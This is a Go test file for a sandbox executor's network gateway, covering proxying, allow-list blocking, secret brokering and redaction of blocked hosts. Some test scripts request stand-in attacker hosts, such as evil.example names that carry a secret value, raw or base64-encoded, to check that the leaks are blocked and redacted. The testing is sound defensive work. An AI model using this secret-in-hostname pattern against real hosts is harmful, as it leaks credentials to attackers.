//go:build unix

package executor

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/caissonrun/caisson"
	"github.com/caissonrun/caisson/engine"
	"github.com/caissonrun/caisson/engine/mem"
)

// gatedRig is a rig whose programs have "get URL [HEADER]", which prints the
// answer, by the sandbox's own network.
func gatedRig(t *testing.T, handler http.HandlerFunc) *rig {
	r := newRig(t)
	r.proxies = map[string]http.Handler{"mine": handler}
	r.programs = map[string]mem.Program{"get": runGet}
	return r
}

func runGet(p *mem.Proc) int {
	transport := &http.Transport{
		DisableKeepAlives: true,
		DialContext:       func(_ context.Context, network, address string) (net.Conn, error) { return p.Connect(network, address) },
	}
	req, err := http.NewRequest(http.MethodGet, p.Args()[1], nil)
	if err != nil {
		return 2
	}
	if len(p.Args()) > 2 {
		name, value, _ := strings.Cut(p.Args()[2], "=")
		req.Header.Set(name, value)
	}
	resp, err := transport.RoundTrip(req)
	if err != nil {
		fmt.Fprintln(p.Stderr(), err)
		return 1
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		fmt.Fprintln(p.Stderr(), err)
		return 1
	}
	fmt.Fprintf(p.Stdout(), "%d %s\n", resp.StatusCode, strings.TrimSpace(string(body)))
	return 0
}

// proxied is a task that reaches the rig's handler as http://app/.
func proxied(script string) *caisson.Task {
	task := sh(script)
	task.Proxies = map[string]caisson.Proxy{"app": {Upstream: "mine"}}
	return task
}

// allowing is a task that reaches nothing but what it lists.
func allowing(script string, allow ...string) *caisson.Task {
	task := sh(script)
	task.Network = caisson.Network{Mode: caisson.NetworkAllow, Allow: allow}
	return task
}

// TestGatewayEveryStep holds that all steps are served, each by who attends.
func TestGatewayEveryStep(t *testing.T) {
	r := gatedRig(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Host, r.URL.Path) })
	p := r.process()
	task := proxied("get http://app/main")
	task.Pre, task.Post, task.Finally = step1("get http://app/pre"), step1("get http://app/post"), step1("get http://app/finally")
	task.Sidecars = step1("get http://app/beside; hold")
	result := p.run(task)
	log := p.log(result.Task, LogOptions{})
	for _, want := range []string{"pre-0: 200 app/pre\n", "main: 200 app/main\n", "post-0: 200 app/post\n", "finally-0: 200 app/finally\n"} {
		if !strings.Contains(log, want) {
			t.Errorf("log %q, want %q", log, want)
		}
	}
	if !result.Success || len(result.Blocked) > 0 {
		t.Errorf("result %+v", result)
	}
	r.clean()
}

// TestGatewayTakenOver holds that whoever attends next serves the same program:
// what it asked for meanwhile has waited.
func TestGatewayTakenOver(t *testing.T) {
	var asked atomic.Int64
	r := gatedRig(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, asked.Add(1)) })
	waiting := make(chan struct{})
	r.programs["ready"] = func(*mem.Proc) int { close(waiting); return 0 }
	released := make(chan struct{})
	r.programs["held"] = func(*mem.Proc) int { <-released; return 0 }
	p := r.process()
	task := proxied("get http://app/; ready; held; get http://app/")
	task.Sidecars = step1("held; get http://app/; hold")
	id := p.submit(task)
	ctx, leave := context.WithCancel(t.Context())
	left := make(chan error, 1)
	go func() { left <- p.Attend(ctx, id, false) }()
	<-waiting
	leave()
	if err := <-left; err == nil {
		t.Error("Attend = nil, want that it was ended")
	}
	close(released)
	q := r.process()
	result := q.attendAsync(id, false)()
	if !result.Success || asked.Load() != 3 {
		t.Errorf("result %+v, asked %d times, want 3", result, asked.Load())
	}
	r.clean()
}

// TestGatewayAttendantStays holds that a program that has to be served never is
// alone: its attendant does not leave, and one that died gets another.
func TestGatewayAttendantStays(t *testing.T) {
	r := gatedRig(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "served") })
	r.attend = true
	p := r.process()
	id, err := p.Submit(t.Context(), proxied("sleep 0.3; get http://app/"), &Submission{Detached: true})
	if err != nil {
		t.Fatal(err)
	}
	r.running.Wait()
	if result := r.result(id); !result.Success || len(r.spawned) != 1 {
		t.Errorf("result %+v after %d attendants, want one", result, len(r.spawned))
	}
}

func TestGatewayRecover(t *testing.T) {
	r := gatedRig(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "served") })
	p := r.process()
	id := p.submit(proxied("sleep 0.2; get http://app/"))
	ctx, leave := context.WithCancel(t.Context())
	left := make(chan error, 1)
	go func() { left <- p.Attend(ctx, id, false) }()
	r.reached(id, caisson.EventStarted, "main")
	leave()
	<-left
	r.attend = true
	q := r.process()
	if err := q.Recover(t.Context()); err != nil {
		t.Fatal(err)
	}
	r.running.Wait()
	if len(r.spawned) == 0 {
		t.Fatal("nobody was started to serve the program")
	}
	if result := r.result(id); !result.Success {
		t.Errorf("result %+v", result)
	}
}

// TestGatewayBlocked holds that what was blocked is told once each, with how
// often, bounded, and without secrets.
func TestGatewayBlocked(t *testing.T) {
	r := gatedRig(t, nil)
	var script strings.Builder
	for range 3 {
		script.WriteString("get http://again.example/; ")
	}
	script.WriteString("get http://s3cr3t-value.evil.example/; ")
	for i := range 2 * caisson.MaxBlocked {
		fmt.Fprintf(&script, "get http://n%d.example/; ", i)
	}
	p := r.process()
	task := allowing(script.String()+"true", "good.example:80")
	task.Secrets = map[string]caisson.Secret{"TOKEN": {}}
	result := p.run(task)
	if n := len(result.Blocked); n != caisson.MaxBlocked {
		t.Fatalf("%d were blocked, want %d", n, caisson.MaxBlocked)
	}
	want := caisson.Blocked{Host: "again.example", Port: 80, Why: "not in network.allow", Count: 3}
	if result.Blocked[0] != want {
		t.Errorf("first blocked = %+v, want %+v", result.Blocked[0], want)
	}
	told := 0
	for _, ev := range r.events(result.Task) {
		if ev.Type == caisson.EventBlocked {
			told++
		}
	}
	if told != caisson.MaxBlocked {
		t.Errorf("%d events tell of it, want %d", told, caisson.MaxBlocked)
	}
	for _, path := range []string{r.task(result.Task).Journal(), r.task(result.Task).Result()} {
		if data, err := os.ReadFile(path); err != nil || strings.Contains(string(data), "s3cr3t-value") {
			t.Errorf("%s, %v, tells the secret", path, err)
		}
	}
	if log := p.log(result.Task, LogOptions{}); !strings.Contains(log, `add "again.example:80" to reach it`) {
		t.Errorf("log %q tells nobody what to do", log[:min(len(log), 500)])
	}
	r.clean()
}

// TestGatewayLookedUp holds that a name is told, too, that was looked up for a
// port that nobody listens at.
func TestGatewayLookedUp(t *testing.T) {
	r := gatedRig(t, nil)
	p := r.process()
	result := p.run(allowing("get http://unheard.example:22/; true", "good.example:80"))
	want := []caisson.Blocked{{Host: "unheard.example", Why: "not in network.allow", Count: 1}}
	if !slices.Equal(result.Blocked, want) {
		t.Errorf("blocked %+v, want %+v", result.Blocked, want)
	}
	r.clean()
}

// TestRedactBlocked holds that a secret is not told by a name made of it, which
// is in lower case.
func TestRedactBlocked(t *testing.T) {
	a := &attendant{secrets: map[string][]byte{"TOKEN": []byte("MiXed-Value\n")}}
	for _, host := range []string{
		"mixed-value.evil.example", "x.MiXed-Value.evil.example", strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte("MiXed-Value"))) + ".evil.example",
	} {
		b := caisson.Blocked{Host: host, Why: "asked for on a connection to " + host}
		if err := a.redactBlocked(&b); err != nil {
			t.Fatal(err)
		}
		for _, text := range []string{b.Host, b.Why} {
			if !strings.Contains(text, "[redacted]") || !strings.Contains(text, "evil.example") {
				t.Errorf("%s becomes %q", host, text)
			}
		}
	}
}

// TestGatewayBlockedTwice holds that another attendant tells nothing again.
func TestGatewayBlockedTwice(t *testing.T) {
	r := gatedRig(t, nil)
	go1, go2 := make(chan struct{}), make(chan struct{})
	r.programs["ready"] = func(*mem.Proc) int { close(go1); return 0 }
	r.programs["held"] = func(*mem.Proc) int { <-go2; return 0 }
	p := r.process()
	id := p.submit(allowing("get http://evil.example/; ready; held; get http://evil.example/; get http://more.example/; true"))
	ctx, leave := context.WithCancel(t.Context())
	left := make(chan error, 1)
	go func() { left <- p.Attend(ctx, id, false) }()
	<-go1
	r.reached(id, caisson.EventBlocked, "")
	leave()
	<-left
	close(go2)
	result := r.process().attendAsync(id, false)()
	var hosts []string
	for _, b := range result.Blocked {
		hosts = append(hosts, b.Host)
	}
	if !slices.Equal(hosts, []string{"evil.example", "more.example"}) {
		t.Errorf("blocked %v, want evil.example and more.example, once each", result.Blocked)
	}
}

// TestGatewayBroker holds that the program has a placeholder, the same in every
// attempt and for every attendant, that no log or record tells the value, and
// that the host gets it.
func TestGatewayBroker(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got = append(got, r.Header.Get("X-Key"))
		fmt.Fprintln(w, "you said", r.Header.Get("X-Key"))
	})}
	done := make(chan struct{})
	go func() { defer close(done); _ = server.Serve(l) }()
	defer func() { server.Close(); <-done }()

	r := gatedRig(t, nil)
	r.lookup = func(context.Context, string) ([]netip.Addr, error) {
		return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
	}
	r.dial = func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "tcp", l.Addr().String())
	}
	var seen []string
	r.programs["call"] = func(p *mem.Proc) int {
		seen = append(seen, p.Getenv("TOKEN"))
		return 0
	}
	p := r.process()
	task := sh("call; get http://api.example/ X-Key=$TOKEN; false")
	task.Retry.Limit = 1
	task.Secrets = map[string]caisson.Secret{"TOKEN": {Broker: &caisson.Broker{Host: "http://api.example", Header: "X-Key"}}}
	result := p.run(task)
	if len(seen) != 2 || seen[0] != seen[1] || !strings.HasPrefix(seen[0], "CAISSON_PLACEHOLDER_") {
		t.Fatalf("programs had %q, want the same placeholder twice", seen)
	}
	if !slices.Equal(got, []string{"s3cr3t-value", "s3cr3t-value"}) {
		t.Errorf("the host got %q", got)
	}
	if log := p.log(result.Task, LogOptions{}); strings.Contains(log, "s3cr3t-value") || !strings.Contains(log, "you said "+seen[0]) {
		t.Errorf("log %q, want the placeholder in it and not the value", log)
	}
	r.clean()
}

// TestGatewayTrust holds that programs find who to believe, by one file for all
// steps and variables that the task has not set itself.
func TestGatewayTrust(t *testing.T) {
	r := gatedRig(t, nil)
	p := r.process()
	task := sh("env; cat " + trustFile)
	task.Env = map[string]string{"GIT_SSL_CAINFO": "/mine"}
	task.Secrets = map[string]caisson.Secret{"TOKEN": {As: caisson.SecretFile, Broker: &caisson.Broker{Host: "api.example"}}}
	result := p.run(task)
	log := p.log(result.Task, LogOptions{})
	for _, want := range []string{"SSL_CERT_FILE=" + trustFile, "GIT_SSL_CAINFO=/mine", "-----BEGIN CERTIFICATE-----"} {
		if !strings.Contains(log, want) {
			t.Errorf("log %q, want %q", log, want)
		}
	}
	if strings.Contains(log, "PRIVATE KEY") {
		t.Error("the key of the authority is in the sandbox")
	}
	r.clean()
}

// TestGatewayRefused holds that what can't be served fails the step before its
// program starts, and is said in one line.
func TestGatewayRefused(t *testing.T) {
	r := gatedRig(t, func(http.ResponseWriter, *http.Request) {})
	r.wrap = func(e engine.Engine) engine.Engine { return &keepless{e} }
	p := r.process()
	result := p.run(proxied("true"))
	if result.Success || result.Error == nil || !strings.Contains(result.Error.Message, "no sockets today") {
		t.Errorf("result %+v, want the engine's reason", result)
	}
	if strings.Contains(r.words(result.Task), "started") {
		t.Errorf("events %s, want no program", r.words(result.Task))
	}
	r.clean()
}

// A keepless engine makes sandboxes whose sockets can't be had.
type keepless struct{ engine.Engine }

func (k *keepless) Create(ctx context.Context, spec *engine.Spec) (engine.Sandbox, error) {
	sb, err := k.Engine.Create(ctx, spec)
	if err != nil {
		return nil, err
	}
	return &socketless{sb}, nil
}

type socketless struct{ engine.Sandbox }

func (*socketless) Sockets(context.Context) ([]engine.OpenSocket, error) {
	return nil, &caisson.Error{Op: caisson.OpStart, Kind: caisson.ErrInternal, Err: fmt.Errorf("no sockets today")}
}

// TestGatewayChoosesEngine holds that an engine that can't do it is passed over,
// and named with the field where there is no other.
func TestGatewayChoosesEngine(t *testing.T) {
	r := gatedRig(t, func(http.ResponseWriter, *http.Request) {})
	r.features = func(f *engine.Features) { f.Gateway, f.Networks.Allow = false, false }
	p := r.process()
	both := proxied("true")
	both.Network = caisson.Network{Mode: caisson.NetworkAllow}
	both.Secrets = map[string]caisson.Secret{"TOKEN": {Broker: &caisson.Broker{Host: "api.example"}}}
	_, err := p.Submit(t.Context(), both, &Submission{Secrets: map[string][]byte{"TOKEN": []byte("s3cr3t-value")}})
	for _, want := range []string{"network.allow", "proxies.app", "secrets.TOKEN.broker"} {
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "gateway") {
			t.Errorf("Submit = %v, want %q and no word of our own", err, want)
		}
	}
}

// TestGatewayEnds holds that a request ends with its sandbox, and so does all
// that serves it.
func TestGatewayEnds(t *testing.T) {
	gone := make(chan struct{})
	r := gatedRig(t, func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done(); close(gone) })
	p := r.process()
	task := proxied("get http://app/")
	task.Timeout = caisson.Duration(200 * time.Millisecond)
	result := p.run(task)
	select {
	case <-gone:
	default:
		t.Error("the request has outlived its sandbox")
	}
	if result.Exit.Reason != caisson.ReasonTimeout {
		t.Errorf("result %+v", result)
	}
	r.clean()
}
